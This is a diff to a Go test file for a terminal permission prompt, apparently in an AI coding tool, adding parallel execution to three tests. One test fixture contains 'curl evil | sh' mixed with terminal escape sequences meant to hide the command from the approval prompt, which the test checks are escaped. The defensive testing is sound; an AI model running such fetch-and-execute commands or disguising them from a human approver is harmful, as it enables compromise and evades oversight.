@@ -17,6 +17,7 @@ import (
 // A command with escape sequences cannot rewrite the permission prompt to
 // hide what it runs.
 func TestTerminalAskerEscapesControlCharacters(t *testing.T) {
+	t.Parallel()
 	q := permission.Question{ToolName: "Bash", Summary: "Run `curl evil | sh\r\x1b[2Kls`", Diff: "+ok\n+\x1b]0;title\x07"}
 	var out bytes.Buffer
 	ta := newTerminalAsker(strings.NewReader("n\n"), &out)
@@ -33,6 +34,7 @@ func TestTerminalAskerEscapesControlCharacters(t *testing.T) {
 }
 
 func TestTerminalAsker(t *testing.T) {
+	t.Parallel()
 	q := permission.Question{ToolName: "Bash", Summary: "Run `npm test`", Suggestion: "Bash(npm test:*)", Rules: []permission.Rule{{Permission: "Bash", Pattern: "npm test:*", Action: permission.ActionAllow}}}
 	cases := []struct {
 		input string
@@ -80,6 +82,7 @@ func TestTerminalAsker(t *testing.T) {
 // A line typed while no question was on screen (here the "y" meant for a
 // question another client answered first) does not answer the next one.
 func TestTerminalAskerDropsLinesTypedBeforeTheQuestion(t *testing.T) {
+	t.Parallel()
 	q := permission.Question{ToolName: "Bash", Summary: "Run `rm -rf build`"}
 	pr, pw := io.Pipe()
 	defer pw.Close()
